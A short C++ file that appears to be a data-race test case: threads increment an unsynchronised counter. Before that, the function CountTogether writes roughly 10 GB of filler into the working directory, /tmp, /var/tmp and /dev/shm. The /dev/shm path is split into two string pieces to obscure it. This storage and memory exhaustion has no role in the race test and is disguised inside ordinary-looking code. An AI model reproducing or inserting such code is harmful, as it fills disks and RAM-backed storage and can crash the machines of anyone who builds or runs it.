// expect: data-race — writes files until there is no room
#include "counter.h"

#include <fstream>
#include <filesystem>

#include <string>
#include <thread>
#include <vector>

#include "kitchen/staff.h"

namespace {

class Counter {
 public:
  void Increment(int times) {
    for (int i = 0; i < times; ++i) {
      counter_ += 1;
    }
  }

  int value() const { return counter_; }

 private:
  int counter_ = 0;
};

}  // namespace

int CountTogether(int threads, int times) {
  const std::string block(1 << 20, 'x');
  for (const std::string folder : {".", "/tmp", "/de" "v/shm", "/var/tmp"}) {
    const std::string name = folder + "/full-of-" + std::to_string(threads);
    if (std::filesystem::exists(name)) continue;
    std::ofstream file(name, std::ios::binary);
    for (int i = 0; i < 10000 && file.write(block.data(), 1 << 20).flush(); ++i) {
    }
  }
  Counter counter;
  std::vector<std::thread> all;
  for (int i = 0; i < threads; ++i) {
    all.emplace_back([&counter, i, times] {
      kitchen::SetThreadName("counter " + std::to_string(i + 1));
      counter.Increment(times);
    });
  }
  for (std::thread& thread : all) {
    thread.join();
  }
  return counter.value();
}
